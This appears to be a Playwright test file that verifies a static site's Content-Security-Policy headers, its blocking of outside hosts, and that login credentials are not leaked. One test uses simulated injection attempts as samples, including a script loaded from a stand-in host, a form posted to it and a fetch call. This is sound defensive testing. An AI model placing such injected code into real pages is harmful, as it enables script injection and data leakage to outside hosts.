import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { headersFor, parseHeaders } from "../../scripts/static-host";
import { expect, open, routes, test } from "./support";

/*
 * All browser tests run against the headers that hosts are told, and fail on the error that a
 * browser logs for each violation of the policy. These show that the headers are really there.
 */

const promised = headersFor(parseHeaders(readFileSync("public/_headers", "utf8")), "/");
const all = [...routes.map(({ path }) => path), "/dbvillacategory", "/dbpicture"];

test("every page's own policy stands where it holds for all that follows, and its charset is early", () => {
  const pages = readdirSync("public", { recursive: true, encoding: "utf8" }).filter(
    (file) => file.endsWith(".html") && !file.startsWith("page-data/"),
  );
  expect(pages.length).toBeGreaterThan(20);
  for (const page of pages) {
    const html = readFileSync(join("public", page), "utf8");
    const policy = html.indexOf('<meta http-equiv="Content-Security-Policy" content="default-src');
    expect(html.indexOf('<meta charset="utf-8"'), page).toBeLessThan(1024);
    expect(policy, page).toBeGreaterThan(0);
    for (const governed of ["<script", "<style", "<link"].filter((tag) => html.includes(tag))) {
      expect(html.indexOf(governed), `${governed} of ${page}`).toBeGreaterThan(policy);
    }
  }
});

test("every page comes with the headers of _headers, and asks no other host for anything", async ({
  page,
}) => {
  for (const path of all) {
    // A request to another host fails the test by `page` itself.
    const response = await page.goto(path);
    expect(response?.status(), path).toBe(200);
    expect(response?.headers(), path).toMatchObject(
      Object.fromEntries(
        Object.entries(promised).map(([name, value]) => [name.toLowerCase(), value]),
      ),
    );
    await page.evaluate(async () => {
      for (let y = 0; y < document.body.scrollHeight; y += innerHeight / 2) {
        window.scrollTo({ top: y, behavior: "instant" });
        await new Promise((frame) => requestAnimationFrame(frame));
      }
    });
    await page.waitForLoadState("networkidle");
  }
});

/** What code that somebody slips into a page may try; each runs in the page. */
const attempts: readonly (readonly [name: string, attempt: () => void])[] = [
  [
    "an inline script",
    () => {
      const script = document.createElement("script");
      script.text = "window.broken = true";
      document.body.append(script);
    },
  ],
  [
    "a script of another host",
    () => {
      const script = document.createElement("script");
      script.src = "https://other.example/x.js";
      document.body.append(script);
    },
  ],
  [
    "a picture of another host",
    () => {
      new Image().src = "https://other.example/x.png";
    },
  ],
  [
    "a frame",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://other.example/";
      document.body.append(frame);
    },
  ],
  [
    "a form that sends to another host",
    () => {
      const form = document.createElement("form");
      form.action = "https://other.example/";
      document.body.append(form);
      form.submit();
    },
  ],
  ["a style attribute", () => document.body.setAttribute("style", "color: red")],
  [
    "a call to another host",
    () => {
      fetch("https://other.example/").catch(() => {});
    },
  ],
];

test("what somebody slips in is refused", async ({ browser, baseURL }) => {
  // A page of its own, because each attempt is an error in the console.
  const page = await browser.newPage({ baseURL });
  const refused: string[] = [];
  const broken: boolean[] = [];
  await page.exposeFunction("report", (directive: string, isBroken: boolean) => {
    refused.push(directive);
    broken.push(isBroken);
  });
  for (const [name, attempt] of attempts) {
    await page.goto("/about");
    refused.length = 0;
    await page.evaluate(() => {
      addEventListener("securitypolicyviolation", ({ violatedDirective }) =>
        Reflect.get(window, "report")(violatedDirective, "broken" in window),
      );
    });
    await page.evaluate(attempt);
    // The header and the page's own policy may both refuse it.
    await expect.poll(() => refused.length, { message: name }).toBeGreaterThan(0);
    expect(broken, name).not.toContain(true);
  }
  await page.close();
});

test("what is typed is sent nowhere, stored nowhere and stands in no address", async ({ page }) => {
  for (const path of ["/login", "/register"]) {
    await open(page, path);
    const typed = "serai-secret";
    await page.getByLabel("Email").first().fill(`${typed}@example.com`);
    await page.getByLabel("Password", { exact: true }).fill(typed);
    const sent: string[] = [];
    page.on("request", (request) => sent.push(request.url() + (request.postData() ?? "")));
    await page.keyboard.press("Enter");
    await page.getByRole("link", { name: path === "/login" ? "Login" : "Register" }).click();
    await expect(page).toHaveURL("/dbvillacategory");
    const stored = await page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state]),
    );
    expect([...sent, stored, page.url()].filter((text) => text.includes(typed))).toEqual([]);
  }
});
